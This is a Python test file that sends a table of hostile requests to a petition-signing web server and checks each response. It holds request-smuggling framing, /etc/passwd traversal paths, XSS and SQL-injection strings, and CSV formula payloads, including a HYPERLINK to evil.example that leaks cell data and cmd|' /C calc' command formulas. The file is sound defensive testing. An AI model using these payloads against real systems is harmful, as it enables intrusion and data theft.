#!/usr/bin/env python3
"""test_hostile.py -- a table of hostile requests, each with its expected answer.

Every row is (group, description, request, expected status, stored?):
  request   raw bytes sent over a socket, or (method, path, headers, body)
  expected  a status, a set of acceptable statuses, or "closed" (the server
            answers nothing and drops or ignores the connection)
  stored    whether the row is a valid signature that must be stored (+1),
            False: the count must not move; "if-ok": stored exactly when the
            answer is a success (for requests the RFC lets a server either
            refuse or process)
Rows may carry extra checks (escaping on the 422 page, escaping on the public
page, the values the CSV export must hold).

After EVERY row: the server is alive, GET /healthz is 200, and a fresh valid
signature is answered 303 and counted (+1). At the end the count equals the
number of CSV rows and everything the rows stored is in the CSV as expected
(NFC text, SQL meta-characters verbatim, formula cells guarded with ').
"""

import base64
import os
import re
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness as H  # noqa: E402

CLOSED = "closed"

# Statuses only petitiond itself produces (libmicrohttpd's own error pages
# are 400, 413, 414, 431, 505): these must carry the security headers.
OWN_STATUSES = {200, 201, 303, 401, 403, 404, 405, 415, 422}

CRASH_MARKERS = H.SANITIZER_MARKERS + (
    "Segmentation fault", "SIGSEGV", "Aborted", "abort()", "Assertion", "assertion", "double free",
    "corrupted", "stack smashing", "core dumped")


class Row:
    def __init__(self, group, desc, req, expect, stores=False, csv=None, email=None,
                 checks=(), auth=False, timeout=5.0, forbid=(), read_all=False):
        self.group = group
        self.desc = desc
        self.req = req
        self.expect = expect if isinstance(expect, (set, frozenset)) else {expect}
        self.stores = stores
        self.csv = csv          # {column: stored value} expected in the export
        self.email = email      # the row's email, to find it in the CSV
        self.checks = list(checks)
        self.auth = auth        # an admin request: reset the failure streak after it
        self.timeout = timeout
        self.forbid = [f if isinstance(f, bytes) else f.encode("utf-8") for f in forbid]
        self.pages = []         # public pages fetched by the checks
        self.label = desc       # "[k group] desc", set when the row runs
        self.read_all = read_all  # raw: read until the server closes (pipelining checks)
        self.raw = b""          # raw bytes received


# --------------------------------------------------------------------------
# building rows

_n = [0]


def uniq():
    _n[0] += 1
    return _n[0]


def pairs(**over):
    """Valid fields with a unique email, overridden by `over` (None drops a
    field; values may be str or bytes)."""
    i = uniq()
    d = {"name": "Hostile Tester %d" % i, "email": "hostile%d@example.com" % i, "country": "KH"}
    d.update(over)
    return [(k, v) for k, v in d.items() if v is not None]


def email_of(ps):
    for k, v in ps:
        if k == "email":
            return v if isinstance(v, str) else v.decode("utf-8", "replace")
    return None


def post(body, ctype=H.FORM_CT, accept="text/html", extra=None):
    h = {"Accept": accept}
    if ctype is not None:
        h["Content-Type"] = ctype
    if extra:
        h.update(extra)
    if isinstance(body, list):
        body = H.urlencode(body)
    return ("POST", "/sign", h, body)


def raw_get(path, headers=b""):
    p = path if isinstance(path, bytes) else path.encode("latin-1")
    return (b"GET " + p + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n" + headers + b"\r\n")


def raw_post(body, headers=b""):
    return (b"POST /sign HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
            b"Content-Type: application/x-www-form-urlencoded\r\nAccept: text/html\r\n" + headers
            + b"\r\n" + body)


def form_row(group, desc, ps, expect=422, stores=False, csv=None, checks=(), **kw):
    """A POST /sign of the pairs ps (or a raw body: then pass email=)."""
    email = kw.pop("email", None) or (email_of(ps) if isinstance(ps, list) else None)
    return Row(group, desc, post(ps, **{k: kw.pop(k) for k in list(kw) if k in ("ctype", "accept", "extra")}),
               expect, stores=stores, csv=csv, email=email, checks=checks, **kw)


# --------------------------------------------------------------------------
# checks run right after a row's request


def kept_on_422(field, value):
    """The 422 page shows the form again with `value` kept in `field`
    (parsed back from the HTML equal to what was sent) and the raw text of
    value appears nowhere in the page: it was escaped."""
    def check(t, srv, row, st, h, body):
        html = body.decode("utf-8", "replace")
        vals = H.form_values(html)
        want = value.strip()
        t.ok(st == 422 and vals.get(field) == want,
             "%s: 422 page keeps the %s value, escaped (parsed back equal)" % (row.label, field),
             "status %d kept %r want %r" % (st, vals.get(field), want))
        t.ok(value.encode("utf-8") not in body,
             "%s: the raw payload does not appear in the 422 page" % row.label,
             _around(body, value.encode("utf-8")))
    return check


def absent_on_422(value):
    def check(t, srv, row, st, h, body):
        html = body.decode("utf-8", "replace")
        t.ok(st == 422 and H.sign_form(html) is not None and value.encode("utf-8") not in body,
             "%s: 422 with the form, raw payload not in the page" % row.label,
             "status %d; %s" % (st, _around(body, value.encode("utf-8"))))
    return check


def on_public_page(first):
    """The stored public name shows (as text) in the recent-signers list of
    GET / within 3 s, and its raw form is nowhere in the page source."""
    def check(t, srv, row, st, h, body):
        deadline = time.monotonic() + 3.0
        page = ""
        while True:
            page = srv.page("/")
            if first in H.html_text(page) or time.monotonic() > deadline:
                break
            time.sleep(0.1)
        t.ok(first in H.html_text(page), "%s: the name shows as text in the public list of recent signers"
             % row.label, H.html_text(page)[-600:])
        t.ok(first not in page, "%s: the public page holds no raw (unescaped) copy of the name" % row.label,
             _around(page.encode("utf-8"), first.encode("utf-8")))
        row.pages.append(page.encode("utf-8"))
    return check


def json_errors(fieldset):
    def check(t, srv, row, st, h, body):
        j = H.json_body(body)
        errs = j.get("errors") if isinstance(j, dict) else None
        t.ok(st == 422 and isinstance(errs, dict) and set(errs) == set(fieldset),
             "%s: JSON errors name exactly %s" % (row.label, sorted(fieldset)), "status %d body %r" % (st, body[:300]))
    return check


def no_leak(t, srv, row, st, h, body):
    bad = [m for m in (b"root:", b"/bin/sh", b"[boot loader]", b"id,signed_at") if m in body]
    t.ok(not bad, "%s: no file contents or export in the answer" % row.label, "found %r" % bad)


def unauthorized(t, srv, row, st, h, body):
    t.ok(st == 401 and h.get("www-authenticate", "").startswith("Basic"),
         "%s: 401 carries WWW-Authenticate: Basic" % row.label, repr(h.get("www-authenticate")))


def closed_after_first(t, srv, row, st, h, body):
    n = len(re.findall(rb"(?m)^HTTP/1\.[01] \d{3}", row.raw))
    t.ok(n == 1, "%s: the connection is closed after the answer (the pipelined GET is not answered)" % row.label,
         "%d answers on the connection: %r" % (n, re.findall(rb"(?m)^HTTP/1\.[01] \d{3}[^\r]*", row.raw)))


def _around(body, needle, width=80):
    i = body.find(needle)
    if i < 0:
        return "not found (fine)"
    return "found at %d: %r" % (i, body[max(0, i - width):i + len(needle) + width])


# --------------------------------------------------------------------------
# the table


def build_rows(token):
    R = []
    add = R.append

    # ---- malformed request lines and framing ----------------------------------
    g = "request line"
    add(Row(g, "garbage line 'GARBAGE'", b"GARBAGE\r\n\r\n", {CLOSED, 400}, timeout=3))
    add(Row(g, "binary junk with NUL and 0xFF", b"\x00\x01\x02\xff\xfe\r\n\r\n", {CLOSED, 400}, timeout=3))
    add(Row(g, "missing HTTP version 'GET /'", b"GET /\r\n\r\n", {CLOSED, 400}, timeout=3))
    add(Row(g, "HTTP/9.9", b"GET / HTTP/9.9\r\nHost: x\r\n\r\n", {400, 505}))
    add(Row(g, "HTTP/1.10", b"GET / HTTP/1.10\r\nHost: x\r\n\r\n", {400, 505}))
    add(Row(g, "HTTP/0.9 in a full request line", b"GET / HTTP/0.9\r\nHost: x\r\n\r\n", {400, 505}))
    add(Row(g, "lower-case 'get / http/1.1'", b"get / http/1.1\r\nHost: x\r\n\r\n", {400, 405, 501}))
    add(Row(g, "unknown method FOO", b"FOO / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", {405, 501}))
    add(Row(g, "NUL inside the method", b"G\x00T / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
            {400, 405, 501}))
    add(Row(g, "very long URL (20 KB)", raw_get("/" + "a" * 20000), {404, 414}, checks=[no_leak]))
    add(Row(g, "URL past the header memory (40 KB)", raw_get("/" + "a" * 40000), {414, 431}))
    # libmicrohttpd 0.9.75 ends the request line at a raw NUL: harmless, any
    # of these is fine as long as nothing leaks or breaks.
    add(Row(g, "raw NUL in the path", raw_get(b"/\x00../../etc/passwd"), {200, 400, 404}, checks=[no_leak]))
    add(Row(g, "encoded NUL in the path '/%00'", raw_get("/%00"), {400, 404}))
    add(Row(g, "spaces inside the path '/ a b'", raw_get("/ a b"), {400, 404}))
    add(Row(g, "double spaces around the path", b"GET  /  HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
            {400, 404}))
    add(Row(g, "absolute-form URL of another host", raw_get("http://evil.example/admin/export.csv"),
            {400, 404}, checks=[no_leak]))
    add(Row(g, "header line without a colon", b"GET /healthz HTTP/1.1\r\nHost: x\r\nNoColon\r\n\r\n",
            {400}))
    add(Row(g, "HTTP/1.1 without Host (lenient or 400)", b"GET /healthz HTTP/1.1\r\nConnection: close\r\n\r\n",
            {200, 400}))
    add(Row(g, "TLS ClientHello on the plain-HTTP port",
            bytes.fromhex("160301002a0100002603030000000000000000000000000000000000000000"
                          "000000000000000000000000000002002f0100"), {CLOSED, 400}, timeout=2))
    add(Row(g, "Content-Length: abc", raw_post(b"", b"Content-Length: abc\r\n"), {400}))
    add(Row(g, "Content-Length: -1", raw_post(b"", b"Content-Length: -1\r\n"), {400}))
    add(Row(g, "Content-Length: 10^23", raw_post(b"", b"Content-Length: 99999999999999999999999\r\n"),
            {400, 413}))
    add(Row(g, "Content-Length 16385 (one byte over the cap)", raw_post(b"", b"Content-Length: 16385\r\n"),
            {413}, timeout=3))
    b1 = H.urlencode(pairs(name="Smuggle One"))
    add(Row(g, "two different Content-Length headers (request smuggling)",
            raw_post(b1, b"Content-Length: %d\r\nContent-Length: 10\r\n" % len(b1)), {400}, timeout=3))
    ps = pairs(name="Smuggle Two")
    b2 = H.urlencode(ps)
    # RFC 9112 6.1: with both, Transfer-Encoding wins or the request is
    # refused, and either way the server MUST close the connection after
    # answering (else a front proxy that used Content-Length desyncs).
    add(Row(g, "Content-Length and Transfer-Encoding: chunked together (refused, or chunked wins)",
            (b"POST /sign HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
             b"Accept: text/html\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
             + b"%x\r\n" % len(b2) + b2 + b"\r\n0\r\n\r\n"
             + b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"), {303, 400},
            stores="if-ok", csv={"name": "Smuggle Two"}, email=email_of(ps), timeout=2, read_all=True,
            checks=[closed_after_first]))
    add(Row(g, "malformed chunk size", raw_post(b"zz\r\nname=x\r\n0\r\n\r\n", b"Transfer-Encoding: chunked\r\n"),
            {CLOSED, 400}, timeout=3))
    add(Row(g, "Transfer-Encoding: gzip (unsupported)", raw_post(H.urlencode(pairs()), b"Transfer-Encoding: gzip\r\n"),
            {CLOSED, 400, 411, 415, 501}, timeout=3))

    # ---- bad percent-encoding ---------------------------------------------------
    g = "percent-encoding"
    for desc, raw in (("'%zz' in name", b"A%zzB"), ("trailing '%' in name", b"AB%"),
                      ("'%4' at the end of name", b"AB%4"), ("IIS-style '%u0041' in name", b"%u0041bc"),
                      ("'%%' in name", b"A%%41")):
        e = "pct%d@example.com" % uniq()
        add(form_row(g, desc, b"name=" + raw + b"&email=" + e.encode() + b"&country=KH", email=e,
                     checks=[]))
    e = "pct%d@example.com" % uniq()
    add(form_row(g, "'%G1' in email", b"name=Pct+Email&email=a%G1" + e.encode() + b"&country=KH", email=e))
    e = "pct%d@example.com" % uniq()
    add(form_row(g, "'50%' in comment", b"name=Pct+Comment&email=" + e.encode() + b"&country=KH&comment=50%",
                 email=e))
    e = "pct%d@example.com" % uniq()
    add(form_row(g, "'+' is a space, lower-case hex decodes ('Ann+L%c3%a9e')",
                 b"name=Ann+L%c3%a9e&email=" + e.encode() + b"&country=KH", 303, stores=True,
                 csv={"name": "Ann L\u00e9e"}, email=e))
    e = "pct%d@example.com" % uniq()
    add(form_row(g, "double-encoded '%2541' is stored as the text '%41'",
                 b"name=Pct%2541&email=" + e.encode() + b"&country=KH", 303, stores=True,
                 csv={"name": "Pct%41"}, email=e))
    e = "pct%d@example.com" % uniq()
    add(form_row(g, "bad escape only in an unknown field's key: ignored, stored",
                 b"name=Pct+Ignored&email=" + e.encode() + b"&country=KH&x%zz=1", 303, stores=True,
                 csv={"name": "Pct Ignored"}, email=e))

    # ---- overlong fields ------------------------------------------------------
    g = "overlong"
    add(form_row(g, "101-character name", pairs(name="N" * 101)))
    ps = pairs(name="M" * 100)
    add(form_row(g, "100-character name (the limit) is stored", ps, 303, stores=True, csv={"name": "M" * 100}))
    ps = pairs(name="e\u0301" * 100)
    add(form_row(g, "100 decomposed characters (200 code points) are 100 characters: stored", ps, 303,
                 stores=True, csv={"name": "\u00e9" * 100}))
    add(form_row(g, "101 decomposed characters", pairs(name="e\u0301" * 101)))
    add(form_row(g, "zalgo name (one letter, 60 combining marks)", pairs(name="Z" + "\u0301\u0316" * 30)))
    add(form_row(g, "15,000-byte name", pairs(name="x" * 15000)))
    ps = pairs(comment="c" * 1000)
    add(form_row(g, "1000-character comment (the limit) is stored", ps, 303, stores=True, csv={"comment": "c" * 1000}))
    add(form_row(g, "1001-character comment", pairs(comment="c" * 1001)))
    add(form_row(g, "255-byte email", pairs(email="x" * 64 + "@" + "a" * 63 + "." + "b" * 63 + "." + "c" * 62)))
    add(form_row(g, "10 KB country", pairs(country="K" * 10000)))
    add(form_row(g, "body of 16,400 bytes (413 by Content-Length)", pairs(comment="c" * 16400), 413))
    ps = pairs(extra_field="z" * 12000)
    add(form_row(g, "12 KB unknown extra field is ignored: stored", ps, 303, stores=True,
                 csv={"name": dict(ps)["name"]}))

    # ---- NUL bytes in every field ------------------------------------------------
    g = "NUL"
    add(form_row(g, "%00 inside name", pairs(name="A\x00B")))
    add(form_row(g, "%00 at the start of name", pairs(name="\x00Alice")))
    add(form_row(g, "%00 inside email", pairs(email="a%d\x00@example.com" % uniq())))
    add(form_row(g, "%00 inside country", pairs(country="K\x00H")))
    add(form_row(g, "%00 after country", pairs(country="KH\x00")))
    add(form_row(g, "%00 inside comment", pairs(comment="x\x00y")))
    add(form_row(g, "%00 after public=1", pairs(public="1\x00")))
    add(form_row(g, "%00 after updates=1", pairs(updates="1\x00")))
    e = "nul%d@example.com" % uniq()
    add(form_row(g, "%00 in a key: 'name%00x=Bob' does not pass for name",
                 b"name%00x=Bob&email=" + e.encode() + b"&country=KH", email=e,
                 checks=[]))

    # ---- invalid and overlong UTF-8 -------------------------------------------------
    g = "UTF-8"
    seqs = [("C0 80 (overlong NUL)", b"\xc0\x80"), ("E0 80 80 (overlong)", b"\xe0\x80\x80"),
            ("ED A0 80 (surrogate)", b"\xed\xa0\x80"), ("F4 90 80 80 (above U+10FFFF)", b"\xf4\x90\x80\x80"),
            ("FF", b"\xff")]
    for sd, sb in seqs:
        add(form_row(g, "name with %s" % sd, pairs(name=b"Bad" + sb + b"Name")))
    for sd, sb in seqs:
        add(form_row(g, "comment with %s" % sd, pairs(comment=b"bad " + sb + b" comment")))
    add(form_row(g, "email with C0 AF (overlong '/')", pairs(email=b"a\xc0\xaf%d@example.com" % uniq())))
    add(form_row(g, "country with F8 88 80 80 80 (5-byte form)", pairs(country=b"K\xf8\x88\x80\x80\x80")))
    add(form_row(g, "public with a lone continuation byte 80", pairs(public=b"1\x80")))
    add(form_row(g, "name ending in a truncated sequence E2 82", pairs(name=b"Euro \xe2\x82")))
    e = "raw%d@example.com" % uniq()
    add(form_row(g, "raw (unescaped) 0xFF byte in the body", b"name=Raw\xffByte&email=" + e.encode() + b"&country=KH",
                 email=e))
    e = "raw%d@example.com" % uniq()
    add(form_row(g, "invalid UTF-8 in a key (na\\xffme=): name is missing",
                 b"na%FFme=Key&email=" + e.encode() + b"&country=KH", email=e, checks=[]))

    # ---- Unicode normalization (stored as NFC) ----------------------------------------
    g = "NFC"
    for desc, name, nfc in (
            ("decomposed 'Jose\\u0301 Nin\\u0303o' -> 'Jos\u00e9 Ni\u00f1o'", "Jose\u0301 Nin\u0303o", "Jos\u00e9 Ni\u00f1o"),
            ("Hangul jamo -> one syllable", "\u1112\u1161\u11ab Gil", "\ud55c Gil"),
            ("ANGSTROM SIGN and o+U+0308 -> '\u00c5ngstr\u00f6m'", "\u212bngstro\u0308m", "\u00c5ngstr\u00f6m"),
            ("marks in non-canonical order (a+U+0302+U+0323) -> U+1EAD", "Tra\u0302\u0323n", "Tr\u1ead" + "n"),
            ("compatibility ligature U+FB01 is kept (NFC, not NFKC)", "O\ufb01ce Worker", "O\ufb01ce Worker")):
        ps = pairs(name=name)
        add(form_row(g, desc, ps, 303, stores=True, csv={"name": nfc}))
    ps = pairs(comment="Cafe\u0301 cre\u0300me")
    add(form_row(g, "decomposed comment 'Cafe\\u0301 cre\\u0300me' -> 'Caf\u00e9 cr\u00e8me'", ps, 303, stores=True,
                 csv={"comment": "Caf\u00e9 cr\u00e8me"}))

    # ---- control characters ----------------------------------------------------------
    g = "control"
    for cd, c in (("\\x01", "\x01"), ("ESC \\x1b", "\x1b"), ("DEL \\x7f", "\x7f"), ("NEL U+0085", "\u0085"),
                  ("LINE SEPARATOR U+2028", "\u2028"), ("TAB inside", "\t"), ("LF inside", "\n"),
                  ("CR inside", "\r")):
        add(form_row(g, "name with %s" % cd, pairs(name="Ctl" + c + "Name")))
    for cd, c in (("\\x01", "\x01"), ("ESC \\x1b (terminal escape)", "\x1b[31m"), ("DEL \\x7f", "\x7f"),
                  ("NEL U+0085", "\u0085"), ("VT \\x0b", "\x0b")):
        add(form_row(g, "comment with %s" % cd, pairs(comment="ctl " + c + " comment")))
    ps = pairs(comment="a\tb\r\nc")
    add(form_row(g, "comment with TAB and CRLF inside is fine (CRLF stored as LF)", ps, 303, stores=True,
                 csv={"comment": "a\tb\nc"}))

    # ---- number of fields ------------------------------------------------------------
    g = "fields"
    e = "many%d@example.com" % uniq()
    add(form_row(g, "1000 extra fields", b"name=Many&email=" + e.encode() + b"&country=KH&"
                 + b"&".join(b"f%d=1" % i for i in range(1000)), {413, 422}, email=e))
    e = "many%d@example.com" % uniq()
    add(form_row(g, "5000 bare keys 'a&a&...'", b"name=Many&email=" + e.encode() + b"&country=KH&" + b"a&" * 5000,
                 {413, 422}, email=e))
    add(form_row(g, "1000 repeated name fields", b"name=x&" * 1000 + b"email=many%d@example.com&country=KH" % uniq(),
                 {413, 422}))
    add(form_row(g, "6000 empty pairs only ('&&&...')", b"&" * 6000, 422))

    # ---- repeated fields -------------------------------------------------------------
    g = "repeated"
    add(form_row(g, "name twice", pairs() + [("name", "Other Name")]))
    ps = pairs()
    add(form_row(g, "email twice (same value)", ps + [("email", email_of(ps))]))
    add(form_row(g, "country twice", pairs() + [("country", "US")]))
    add(form_row(g, "comment twice", pairs(comment="one") + [("comment", "two")]))
    ps = pairs(public="0", public_name="Ticked Twice") + [("public", "1")]
    add(form_row(g, "public '0' then '1' (hidden 0 + checkbox) is ticked", ps, 303, stores=True,
                 csv={"public": "1", "updates": "0", "public_name": "Ticked Twice"}))
    add(form_row(g, "public_name twice with public ticked", pairs(public="1", public_name="A")
                 + [("public_name", "B")], checks=[json_errors({"public_name"})], accept="application/json"))

    # ---- missing fields ----------------------------------------------------------------
    g = "missing"
    add(form_row(g, "no name", pairs(name=None), checks=[]))
    add(form_row(g, "no email", pairs(email=None)))
    add(form_row(g, "no country", pairs(country=None)))
    add(form_row(g, "empty body", b"", 422))
    e = "miss%d@example.com" % uniq()
    add(form_row(g, "'name' without '=' (empty name)", b"name&email=" + e.encode() + b"&country=KH", email=e))
    add(form_row(g, "empty body, JSON", b"", 422, accept="application/json",
                 checks=[json_errors({"name", "email", "country"})]))

    # ---- content types ------------------------------------------------------------------
    g = "content type"
    for ct in ("text/plain", "multipart/form-data; boundary=xyz", "application/json", None,
               "application/x-www-form-urlencodedX", "text/html"):
        ps = pairs()
        body = H.urlencode(ps) if ct != "application/json" else H.jsonlib.dumps(dict(ps)).encode()
        add(form_row(g, "Content-Type: %s" % (ct or "(none)"), body, 415, ctype=ct, email=email_of(ps)))
    ps = pairs()
    add(form_row(g, "urlencoded with '; charset=UTF-8' is fine", ps, 303, stores=True,
                 ctype=H.FORM_CT + "; charset=UTF-8", csv={"name": dict(ps)["name"]}))
    ps = pairs()
    add(form_row(g, "upper-case APPLICATION/X-WWW-FORM-URLENCODED is fine", ps, 303, stores=True,
                 ctype=H.FORM_CT.upper(), csv={"name": dict(ps)["name"]}))
    add(form_row(g, "urlencoded type with a JSON body", b'{"name":"J","email":"j@example.com","country":"KH"}', 422))

    # ---- path traversal on static routes --------------------------------------------------
    g = "traversal"
    for desc, path, exp in (
            ("/static/../../etc/passwd", "/static/../../etc/passwd", 404),
            ("/static/%2e%2e/%2e%2e/etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", 404),
            ("//etc/passwd", "//etc/passwd", 404),
            ("/static/style.css/..", "/static/style.css/..", 404),
            ("/static/..%2f..%2fetc%2fpasswd (encoded slashes)", "/static/..%2f..%2fetc%2fpasswd", 404),
            ("/static%2f..%2f..%2fetc%2fpasswd", "/static%2f..%2f..%2fetc%2fpasswd", 404),
            ("/static/%252e%252e/etc/passwd (double-encoded)", "/static/%252e%252e/etc/passwd", 404),
            ("/static/....//....//etc/passwd", "/static/....//....//etc/passwd", 404),
            ("/static/..\\..\\etc\\passwd (backslashes)", "/static/..\\..\\etc\\passwd", 404),
            ("/static/%c0%ae%c0%ae/etc/passwd (overlong dots)", "/static/%c0%ae%c0%ae/etc/passwd", 404),
            ("/static/./style.css", "/static/./style.css", 404),
            ("/favicon.ico/../../etc/passwd", "/favicon.ico/../../etc/passwd", 404),
            ("/static/ (directory listing)", "/static/", 404),
            ("/static%2fstyle.css (encoded slash to a real asset)", "/static%2fstyle.css", {200, 404}),
            ("/static/style.css%00.js (NUL truncation)", "/static/style.css%00.js", {400, 404}),
            ("/admin/../admin/export.csv without credentials", "/admin/../admin/export.csv", {401, 404}),
            ("/static/style.css?../../etc/passwd (query is not a path)", "/static/style.css?../../etc/passwd", 200)):
        add(Row(g, desc, raw_get(path), exp, checks=[no_leak]))

    # ---- HTML / JS in every field -----------------------------------------------------
    g = "HTML"
    xs = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>",
          "</textarea><script>alert(2)</script>"]
    for x in xs:
        add(form_row(g, "name %r, email invalid: 422" % x, pairs(name=x, email="not-an-email"),
                     checks=[kept_on_422("name", x)], forbid=[x]))
    xe = "\"><script>alert(3)</script>@example.com"
    add(form_row(g, "email %r: 422" % xe, pairs(email=xe), checks=[kept_on_422("email", xe)], forbid=[xe]))
    xc = "\"><script>alert(4)</script>"
    add(form_row(g, "country %r: 422" % xc, pairs(country=xc), checks=[absent_on_422(xc)], forbid=[xc]))
    xm = "</textarea><script>alert(5)</script><textarea>"
    add(form_row(g, "comment %r, email invalid: 422" % xm, pairs(comment=xm, email="bad@"),
                 checks=[kept_on_422("comment", xm)], forbid=[xm]))
    xp = "\"><script>alert(6)</script>"
    add(form_row(g, "public %r: 422" % xp, pairs(public=xp), checks=[absent_on_422(xp)], forbid=[xp]))
    add(form_row(g, "updates %r: 422" % xp, pairs(updates=xp), checks=[absent_on_422(xp)], forbid=[xp]))
    for x in ("<script>alert(7)</script>", "\"><svg/onload=alert(8)>", "'onmouseover='alert(9)'"):
        ps = pairs(name="Escaped Signer", public="1", public_name=x)
        add(form_row(g, "stored public name %r: escaped on the page" % x, ps, 303, stores=True,
                     csv={"public_name": x, "public": "1"}, checks=[on_public_page(x)]))
    ps = pairs(name="Comment Payload", comment="<script>alert(10)</script><img src=x onerror=alert(11)>")
    add(form_row(g, "stored comment with <script> and <img onerror>", ps, 303, stores=True,
                 csv={"comment": dict(ps)["comment"]}))

    # ---- SQL meta-characters ---------------------------------------------------------
    g = "SQL"
    for x in ("' OR 1=1 --", "Robert'); DROP TABLE signatures;--", "\"; DELETE FROM signatures; --",
              "x' UNION SELECT email FROM signatures --"):
        ps = pairs(name=x)
        add(form_row(g, "name %r stored verbatim" % x, ps, 303, stores=True, csv={"name": x}))
    ps = pairs(comment="1; DROP TABLE signatures; SELECT * FROM sqlite_master --")
    add(form_row(g, "comment with ; DROP TABLE stored verbatim", ps, 303, stores=True,
                 csv={"comment": dict(ps)["comment"]}))
    e = "o'reilly%d@example.com" % uniq()
    ps = pairs(email=e)
    add(form_row(g, "email with an apostrophe %r stored verbatim" % e, ps, 303, stores=True, csv={"email": e}))
    add(form_row(g, "country \"KH' OR '1'='1\"", pairs(country="KH' OR '1'='1")))

    # ---- CSV formula payloads ------------------------------------------------------------
    g = "CSV formula"
    for x in ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+A1",
              "@SUM(1+1)*cmd|' /C calc'!A0"):
        ps = pairs(name=x)
        add(form_row(g, "name %r" % x, ps, 303, stores=True, csv={"name": x}))
    for desc, x, stored in (("comment '=1+1'", "=1+1", "=1+1"),
                            ("comment '@me' then lines", "@me\n=2+2", "@me\n=2+2"),
                            ("comment TAB + '=1+1' (leading TAB trimmed, '=' guarded)", "\t=1+1", "=1+1"),
                            ("comment CR + '=1+1' (leading CR trimmed, '=' guarded)", "\r=1+1", "=1+1"),
                            ("comment '+1' after spaces", "   +1", "+1")):
        ps = pairs(comment=x)
        add(form_row(g, desc, ps, 303, stores=True, csv={"comment": stored}))
    for x in ("=x%d@example.com", "+x%d@example.com", "-x%d@example.com"):
        e = x % uniq()
        ps = pairs(email=e)
        add(form_row(g, "email %r" % e, ps, 303, stores=True, csv={"email": e}))
    for x in ('=HYPERLINK("http://evil.example","x")', "@SUM(A1)"):
        ps = pairs(public="1", public_name=x)
        add(form_row(g, "public_name %r" % x, ps, 303, stores=True, csv={"public_name": x, "public": "1"}))

    # ---- bogus Authorization -----------------------------------------------------------------
    g = "auth"

    def auth_row(desc, value, path="/admin/export.csv", expect=401):
        v = value if isinstance(value, bytes) else value.encode("latin-1")
        return Row(g, desc, raw_get(path, b"Authorization: " + v + b"\r\n"), expect, auth=True,
                   checks=[unauthorized, no_leak] if expect == 401 else [no_leak])

    b64 = lambda s: base64.b64encode(s if isinstance(s, bytes) else s.encode("utf-8"))  # noqa: E731
    add(auth_row("Bearer with an empty token", "Bearer "))
    add(auth_row("'Bearer' without a space or token", "Bearer"))
    add(auth_row("Bearer with 10 KB of 'A'", "Bearer " + "A" * 10240))
    add(auth_row("Bearer with non-ASCII bytes", b"Bearer \xc3\xa9\xe2\x82\xac\xff\xfe\x00"))
    add(auth_row("Bearer with 1000 x U+00E9 (UTF-8)", b"Bearer " + "\u00e9".encode("utf-8") * 1000))
    add(auth_row("Bearer with the token minus its last character", "Bearer " + token[:-1]))
    add(auth_row("lower-case 'bearer' with a wrong token", "bearer " + "z" * len(token)))
    add(auth_row("Basic with invalid base64", "Basic !!!not-base64!!!"))
    add(auth_row("Basic with bad padding", "Basic YWRtaW4=====", path="/admin"))
    add(auth_row("Basic without a colon", b"Basic " + b64("no-colon-" + token)))
    add(auth_row("Basic with 10 KB", b"Basic " + b64(b"user:" + b"A" * 7600)))
    add(auth_row("Basic with an empty value", "Basic "))
    add(auth_row("Basic ':' (empty user and password)", b"Basic " + b64(":")))
    add(auth_row("Basic with the token as user name", b"Basic " + b64(token + ":"), path="/admin"))
    add(auth_row("Basic with invalid UTF-8 in the password", b"Basic " + b64(b"admin:\xff\xfe\xc0\x80")))
    add(auth_row("Digest scheme", 'Digest username="admin", realm="petitiond", response="00"'))
    add(auth_row("only spaces", "      "))
    add(auth_row("40 KB Authorization header", "Bearer " + "A" * 40000, expect=431))

    return R


# --------------------------------------------------------------------------
# running


def read_until_close(port, req, timeout):
    """Sends req and reads everything until the server closes the
    connection or stays silent for `timeout` seconds."""
    s = H.socket.create_connection((H.HOST, port), timeout=timeout)
    data = b""
    try:
        try:
            s.sendall(req)
        except OSError:
            return data
        while True:
            try:
                got = s.recv(65536)
            except OSError:
                break
            if not got:
                break
            data += got
    finally:
        s.close()
    return data


def send(srv, row):
    """(status or None, headers, body) of a row's request."""
    if isinstance(row.req, bytes) and row.read_all:
        data = read_until_close(srv.port, row.req, row.timeout)
        row.raw = data
        return H.parse_raw_response(data)
    if isinstance(row.req, bytes):
        data = H.raw_exchange(srv.port, [row.req], timeout=row.timeout)
        row.raw = data
        st, h, body = H.parse_raw_response(data)
        return st, h, body
    method, path, headers, body = row.req
    try:
        return srv.request(method, path, body, headers, timeout=row.timeout)
    except (OSError, H.http.client.HTTPException) as e:
        return None, {"error": repr(e)}, b""


def main(t):
    with H.Server() as srv:
        rows = build_rows(srv.token)
        t.ok(len(rows) >= 70, "the table has at least 70 hostile requests (%d)" % len(rows))
        hidden = srv.hidden_fields()
        first = srv.count()
        expected_total = first
        valid_n = [0]
        script_hits = []
        no_headers = []
        stored_rows = []

        def valid_sign():
            valid_n[0] += 1
            i = valid_n[0]
            return srv.sign({"name": "Valid After %d" % i, "email": "valid-after-%d@example.com" % i,
                             "country": "FR"}, hidden=hidden)

        for k, r in enumerate(rows, 1):
            label = r.label = "[%d %s] %s" % (k, r.group, r.desc)
            c0 = srv.count()
            st, h, body = send(srv, r)
            shown = CLOSED if st is None else st
            t.ok(shown in r.expect, "%s: answer %s" % (label, "/".join(str(x) for x in sorted(r.expect, key=str))),
                 "got %r (%s)" % (shown, h.get("error", "") if st is None else body[:200]))
            alive = srv.alive()
            c1 = srv.count() if alive else None
            if r.stores == "if-ok":
                want = 1 if (st is not None and 200 <= st < 400) else 0
            else:
                want = 1 if r.stores else 0
            t.ok(c1 is not None and c1 - c0 == want,
                 "%s: %s" % (label, "stored once" if want else "nothing stored"),
                 "count before %r after %r" % (c0, c1))
            if c1 is not None:
                expected_total += c1 - c0
                if want and c1 - c0 == 1 and r.csv is not None:
